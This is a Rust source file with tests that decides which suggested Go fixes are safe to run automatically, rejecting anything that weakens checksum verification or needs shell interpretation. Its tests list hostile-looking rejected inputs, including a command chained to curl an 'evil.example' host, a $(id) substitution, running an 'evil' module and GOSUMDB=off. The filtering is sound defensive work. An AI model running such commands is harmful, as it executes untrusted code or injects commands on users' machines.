//! Fix action: a fix as commands that can be run and undone.
//!
//! A fix is a text for a person. Only what is a plain call of `go` that changes settings, go.mod or
//! go.sum is carried out for them: everything else costs more than it says, cannot be taken back, or
//! needs somebody who looks. What weakens verification is never carried out, whatever it is good for,
//! and neither is what a shell would have to interpret.

use crate::{cause::RemedyKind, fix::Fix};
use gomod::modfile::{self, ParseMode};
use serde::Serialize;

/// A call of `go` that carries a fix out.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FixAction {
    /// Its arguments.
    pub arguments: Vec<String>,
    /// What it costs, or what to know before.
    pub cost: &'static str,
}

// === impl FixAction ===

impl FixAction {
    /// What carries a fix out; nothing if a person has to.
    pub fn of(fix: &Fix) -> Option<Self> {
        let arguments = match fix.kind {
            RemedyKind::Replace => replace(&fix.text)?,
            RemedyKind::Environment | RemedyKind::Command => call(&fix.text)?,
            RemedyKind::Import | RemedyKind::GoMod | RemedyKind::GoSum | RemedyKind::Line => {
                return None;
            }
        };
        is_harmless(&arguments).then_some(Self {
            arguments,
            cost: fix.cost,
        })
    }

    /// The call as a person would type it.
    pub fn command(&self) -> String {
        let words = self.arguments.iter().map(|word| shell_word(word));
        format!("go {}", words.collect::<Vec<_>>().join(" "))
    }
}

/// A word that a shell takes as it is, else in quotes.
fn shell_word(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./=:,@+%".contains(c);
    if word.chars().all(is_plain) && !word.is_empty() {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// The edit that adds a `replace` line.
fn replace(line: &str) -> Option<Vec<String>> {
    let file = format!("module example.com/main\n\n{line}\n");
    let file = modfile::parse(file.as_bytes(), ParseMode::Strict).ok()?;
    let [line] = file.replace.as_slice() else {
        return None;
    };
    // `go mod edit` wants an @ between a path and its version.
    let edit = format!("-replace={}={}", line.old, line.new);
    Some(["mod", "edit", &edit].map(str::to_owned).to_vec())
}

/// The arguments of a text that calls `go` and nothing else.
fn call(text: &str) -> Option<Vec<String>> {
    let words = words(text)?;
    let (program, arguments) = words.split_first()?;
    (program == "go").then(|| arguments.to_vec())
}

/// The words of a command, if a shell would take each as it stands or in single quotes.
fn words(text: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    for (number, part) in text.split('\'').enumerate() {
        let is_quoted = number % 2 == 1;
        if is_quoted {
            words.push(part.to_owned());
        } else if part.contains(|c: char| "\"\\$`;&|<>(){}*?[]~#!\n".contains(c)) {
            return None;
        } else {
            // A quoted word must stand alone: what is glued to it would be another word.
            let glued = |end: Option<char>| end.is_some_and(|c| c != ' ');
            let last = text.split('\'').count() - 1;
            if (number > 0 && glued(part.chars().next()))
                || (number < last && glued(part.chars().next_back()))
            {
                return None;
            }
            words.extend(part.split_whitespace().map(str::to_owned));
        }
    }
    let is_closed = text.matches('\'').count().is_multiple_of(2);
    is_closed.then_some(words)
}

/// Whether a call changes settings, go.mod or go.sum only, and verifies no less than before.
fn is_harmless(arguments: &[String]) -> bool {
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["env", "-w", assignments @ ..] => {
            !assignments.is_empty() && assignments.iter().all(|text| is_harmless_setting(text))
        }
        // The default is what most is verified with.
        ["env", "-u", names @ ..] => {
            !names.is_empty() && names.iter().all(|name| !name.starts_with('-'))
        }
        ["mod", "edit", edit] => edit.starts_with("-replace=") || edit.starts_with("-require="),
        ["mod", "tidy"] | ["mod", "download", ..] => true,
        ["get", modules @ ..] => modules.iter().all(|module| !module.starts_with('-')),
        _ => false,
    }
}

/// Whether a setting neither verifies less, nor tells more servers of a module, nor names a program
/// to run. Whoever wants one of these sets it themselves.
fn is_harmless_setting(assignment: &str) -> bool {
    match assignment.split_once('=') {
        Some(("GOPROXY" | "GOTOOLCHAIN", _) | ("GONOPROXY", "none")) => true,
        Some(("GOSUMDB", value)) => value != "off",
        Some(("GOFLAGS", flags)) => !flags.contains("insecure") && !flags.contains("exec"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::FixAction;
    use crate::{cause::RemedyKind, fix::Fix};

    fn command(kind: RemedyKind, text: &str) -> Option<String> {
        let fix = Fix {
            kind,
            text: text.to_owned(),
            cost: "",
        };
        FixAction::of(&fix).map(|action| action.command())
    }

    #[test]
    fn settings_and_requirements_are_carried_out() {
        for text in [
            "go env -w GOTOOLCHAIN=auto",
            "go env -u GOSUMDB",
            "go get example.com/a@v1.2.0",
            "go mod tidy",
            "go mod download example.com/a@v1.0.0",
        ] {
            assert_eq!(command(RemedyKind::Command, text).as_deref(), Some(text));
        }
        let quoted = "go env -w 'GOPROXY=https://proxy.example.com|direct'";
        assert_eq!(
            command(RemedyKind::Environment, quoted).as_deref(),
            Some(quoted)
        );
        let line = "replace example.com/old v1.0.0 => example.com/new v1.0.0";
        assert_eq!(
            command(RemedyKind::Replace, line).as_deref(),
            Some("go mod edit -replace=example.com/old@v1.0.0=example.com/new@v1.0.0")
        );
    }

    #[test]
    fn what_weakens_verification_or_needs_a_shell_is_left_to_people() {
        for text in [
            "go env -w GOSUMDB=off",
            "go env -w GONOSUMDB=*",
            "go env -w GONOSUMDB=example.com",
            "go env -w GOPRIVATE=example.com",
            "go env -w GOINSECURE=example.com",
            "go env -w GOFLAGS=-insecure",
            "go env -w GOFLAGS=-toolexec=x",
            "go env -w GONOPROXY=example.com",
            "go env -w GOAUTH=program",
            "go env -w 'GOTOOLCHAIN=auto' GONOSUMDB=x",
            "go env -w PATH=/tmp",
            "go clean -modcache",
            "go run example.com/evil@latest",
            "go get -exec=sh example.com/a",
            "go generate ./...",
            "go mod tidy && curl https://evil.example",
            "go mod download $(id)",
            "go get 'a'b",
            "go get 'a",
            "curl -sS https://example.com",
            "go",
            "",
        ] {
            assert_eq!(command(RemedyKind::Command, text), None, "{text}");
        }
        assert_eq!(command(RemedyKind::Line, "go mod tidy"), None);
    }
}
